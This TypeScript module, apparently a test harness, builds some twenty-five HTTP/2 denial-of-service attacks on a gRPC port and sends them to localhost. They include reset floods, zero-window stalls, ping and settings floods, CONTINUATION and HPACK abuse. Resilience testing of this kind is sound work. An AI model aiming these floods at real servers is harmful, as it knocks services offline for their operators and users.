/**
 * Data that one caller without rights may send to the gRPC port to keep the
 * others from being served; it reads nothing, and opens no window.
 *
 * @module
 */
import { create, toBinary } from "@bufbuild/protobuf";
import { messageFrame } from "../../lib/grpc/message.ts";
import { ServerReflectionRequestSchema } from "../../lib/grpc/proto/reflection_v1_pb.ts";
import {
  encodeFrame,
  encodeUint32s,
  FLAG,
  PREFACE,
  SETTING,
  settingsFrame,
  TYPE,
} from "../../lib/http2/frame.ts";
import { encodeHeaders } from "../../lib/http2/hpack.ts";
import { callHeaders } from "./http2_peer.ts";

/** What is sent after the preface, in parts; it may have no end. */
export type Attack = () => Generator<Uint8Array>;

/** As many streams as one connection may have. */
const STREAMS = 1_000;

/** How much is sent at a time, in bytes. */
const PORTION = 64 * 1024;

const REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const EMPTY = messageFrame([]);
const block = (path: string) => encodeHeaders(callHeaders(path));

/** What `Huffman` makes of `0`, five bits each. */
const CODED = new Uint8Array(5).fill(0);

/** One after the other, as one part. */
export function joined(...parts: readonly Uint8Array[]): Uint8Array {
  const size = parts.reduce((sum, { length }) => sum + length, 0);
  const bytes = new Uint8Array(size);
  let at = 0;
  for (const part of parts) {
    bytes.set(part, at);
    at += part.length;
  }
  return bytes;
}

/** The same many times, as one part. */
function times(count: number, part: Uint8Array): Uint8Array {
  return joined(...Array.from({ length: count }, () => part));
}

function* endlessly(part: Uint8Array): Generator<Uint8Array> {
  for (;;) yield part;
}

/** Begins a request on each stream that there may be. @param path of each of them */
function* opened(
  path: (i: number) => string,
  message?: Uint8Array,
): Generator<Uint8Array> {
  const blocks = new Map<string, Uint8Array>();
  for (let i = 0; i < STREAMS; i++) {
    const name = path(i);
    const headers = blocks.get(name) ?? block(name);
    blocks.set(name, headers);
    const id = 2 * i + 1;
    yield encodeFrame(TYPE.headers, FLAG.endHeaders, id, headers);
    if (message === undefined) continue;
    yield encodeFrame(TYPE.data, FLAG.endStream, id, message);
  }
}

/** One request after the other, each canceled at once. */
function* broken(path: string): Generator<Uint8Array> {
  const headers = block(path);
  for (let id = 1;; id += 2) {
    yield joined(
      encodeFrame(TYPE.headers, FLAG.endHeaders, id, headers),
      encodeFrame(TYPE.data, FLAG.endStream, id, EMPTY),
      encodeFrame(TYPE.rstStream, 0, id, encodeUint32s(8)),
    );
  }
}

/** A request to reflection. */
export function symbolRequest(symbol: string): Uint8Array {
  const request = create(ServerReflectionRequestSchema, {
    messageRequest: { case: "fileContainingSymbol", value: symbol },
  });
  return messageFrame([toBinary(ServerReflectionRequestSchema, request)]);
}

/** A message of so many bytes, without its last one. */
function unfinished(size: number): Uint8Array {
  const message = messageFrame([new Uint8Array(size)]);
  return message.subarray(0, -1);
}

/** Bytes as the DATA frames of a stream. */
function* dataOf(id: number, bytes: Uint8Array): Generator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += 16_000) {
    yield encodeFrame(TYPE.data, 0, id, bytes.subarray(at, at + 16_000));
  }
}

export const ATTACKS: Readonly<Record<string, Attack>> = {
  *"100 reflection requests on each stream"() {
    yield* opened(() => REFLECTION);
    const requests = times(100, symbolRequest("message.Config"));
    for (let id = 1; id < 2 * STREAMS; id += 2) yield* dataOf(id, requests);
    yield* endlessly(encodeFrame(TYPE.data, 0, 1));
  },
  *"symbols of many parts"() {
    yield* opened(() => REFLECTION);
    const request = symbolRequest(".".repeat(60_000));
    for (let id = 1;; id = (id + 2) % (2 * STREAMS)) yield* dataOf(id, request);
  },
  *"empty frames behind an unfinished message"() {
    yield encodeFrame(TYPE.headers, FLAG.endHeaders, 1, block(REFLECTION));
    yield* dataOf(1, unfinished(65_000));
    yield* endlessly(times(1_000, encodeFrame(TYPE.data, 0, 1)));
  },
  *"frames of one byte"() {
    const byte = encodeFrame(TYPE.data, 0, 1, Uint8Array.of(0));
    yield encodeFrame(TYPE.headers, FLAG.endHeaders, 1, block(REFLECTION));
    yield* dataOf(1, unfinished(65_000).subarray(0, 60_000));
    yield times(4_000, byte);
    yield* endlessly(times(1_000, encodeFrame(TYPE.data, 0, 1)));
  },
  *"an unfinished message on each stream"() {
    yield* opened(() => REFLECTION);
    for (let id = 1; id < 2 * STREAMS; id += 2) {
      yield* dataOf(id, unfinished(64_000));
    }
    yield* endlessly(times(1_000, encodeFrame(TYPE.data, 0, 1)));
  },
  *"first windows, again and again"() {
    yield* opened(() => "/message.Config/Get", EMPTY);
    const sizes = Array.from(
      { length: 2_600 },
      (_, i) => [SETTING.initialWindowSize, i % 2] as const,
    );
    yield* endlessly(settingsFrame(sizes));
  },
  *"a first window in each frame"() {
    yield* opened(() => "/message.Config/Get", EMPTY);
    const frames = [0, 1].map((size) =>
      settingsFrame([[SETTING.initialWindowSize, size]])
    );
    yield* endlessly(times(500, joined(...frames)));
  },
  *"room for one byte on each stream"() {
    yield* opened(() => "/message.Config/Watch", EMPTY);
    for (;;) {
      for (let id = 1; id < 2 * STREAMS; id += 2) {
        yield encodeFrame(TYPE.windowUpdate, 0, id, encodeUint32s(1));
      }
    }
  },
  *"room for one byte on the connection"() {
    yield* opened(() => "/message.Config/Get", EMPTY);
    const update = encodeFrame(TYPE.windowUpdate, 0, 0, encodeUint32s(1));
    yield* endlessly(times(1_000, update));
  },
  *"replies that nobody reads"() {
    yield* opened(() => "/message.Config/Get", EMPTY);
  },
  *"streams that nobody reads"() {
    yield* opened(() => "/message.Config/Watch", EMPTY);
  },
  *"health, watched on each stream"() {
    yield* opened(() => "/grpc.health.v1.Health/Watch", EMPTY);
  },
  *"half a request on each stream"() {
    yield* opened(() => "/message.Config/Get");
    for (let id = 1; id < 2 * STREAMS; id += 2) {
      yield encodeFrame(TYPE.data, 0, id, EMPTY);
    }
  },
  *"requests that are broken off"() {
    yield* broken("/message.Config/Get");
  },
  *"streams that are broken off"() {
    yield* broken("/message.Config/Watch");
  },
  *"the status, again and again"() {
    yield* broken("/message.Lainlet/Status");
  },
  *"methods that are not there"() {
    yield* broken(`/${"\u00e9".repeat(4_000)}`);
  },
  *"pings"() {
    const ping = encodeFrame(TYPE.ping, 0, 0, new Uint8Array(8));
    yield* endlessly(times(1_000, ping));
  },
  *"acknowledgments of pings"() {
    const ack = encodeFrame(TYPE.ping, FLAG.ack, 0, new Uint8Array(8));
    yield* endlessly(times(1_000, ack));
  },
  *"empty settings"() {
    yield* endlessly(times(1_000, settingsFrame([])));
  },
  *"acknowledgments of settings"() {
    yield* endlessly(times(1_000, encodeFrame(TYPE.settings, FLAG.ack, 0)));
  },
  *"priorities"() {
    const frame = encodeFrame(TYPE.priority, 0, 1, new Uint8Array(5));
    yield* endlessly(times(1_000, frame));
  },
  *"frames of no known type"() {
    yield* endlessly(times(1_000, encodeFrame(99, 0, 0)));
  },
  *"headers that go on for as long as they may"() {
    const part = encodeFrame(TYPE.continuation, 0, 1, Uint8Array.of(0x82));
    yield encodeFrame(TYPE.headers, 0, 1, block(REFLECTION));
    yield times(3_000, part);
  },
  *"many headers of one byte"() {
    const headers = joined(block("/message.Config/Get"), times(600, entry()));
    for (let id = 1;; id += 2) {
      yield encodeFrame(
        TYPE.headers,
        FLAG.endHeaders | FLAG.endStream,
        id,
        headers,
      );
    }
  },
  *"entries that are added to the table"() {
    const add = Uint8Array.of(0x40, 1, 97, 0);
    const headers = joined(block("/message.Config/Get"), times(600, add));
    for (let id = 1;; id += 2) {
      yield encodeFrame(
        TYPE.headers,
        FLAG.endHeaders | FLAG.endStream,
        id,
        headers,
      );
    }
  },
  *"names that are coded"() {
    const value = times(2_000, CODED);
    // 10,000 bytes: 127 and 9,873 more.
    const length = [0x80 | 127, 9_873 & 127 | 128, 9_873 >> 7];
    const headers = joined(
      block("/message.Config/Get"),
      Uint8Array.of(0, 1, 97, ...length),
      value,
    );
    for (let id = 1;; id += 2) {
      yield encodeFrame(
        TYPE.headers,
        FLAG.endHeaders | FLAG.endStream,
        id,
        headers,
      );
    }
  },
};

/** An entry of the table that every peer has: a header of few bytes. */
function entry(): Uint8Array {
  return Uint8Array.of(0x80 | 8);
}

/** An attacker of a port; it continues until it is closed. */
export class Attacker implements AsyncDisposable {
  /** Bytes that were sent. */
  sent = 0;
  /** Nothing more is sent: all was, or the server has closed the connection. */
  isOver = false;
  readonly #done: Promise<void>;

  private constructor(private readonly conn: Deno.Conn, attack: Attack) {
    this.#done = this.#send(attack);
  }

  /** Connects, opens no window, and begins. */
  static async start(port: number, attack: Attack): Promise<Attacker> {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port });
    return new Attacker(conn, attack);
  }

  async #send(attack: Attack): Promise<void> {
    try {
      await this.#write(
        joined(PREFACE, settingsFrame([[SETTING.initialWindowSize, 0]])),
      );
      let parts: Uint8Array[] = [];
      let size = 0;
      for (const part of attack()) {
        parts.push(part);
        if ((size += part.length) < PORTION) continue;
        await this.#write(joined(...parts));
        parts = [];
        size = 0;
      }
      await this.#write(joined(...parts));
    } catch {
      // The server has closed the connection, or this has.
    }
    this.isOver = true;
  }

  async #write(bytes: Uint8Array): Promise<void> {
    for (let at = 0; at < bytes.length;) {
      at += await this.conn.write(bytes.subarray(at));
    }
    this.sent += bytes.length;
    // Yields, so that the rest of this process is served.
    await new Promise((resolve) => setTimeout(resolve));
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.conn.close();
    await this.#done;
  }
}
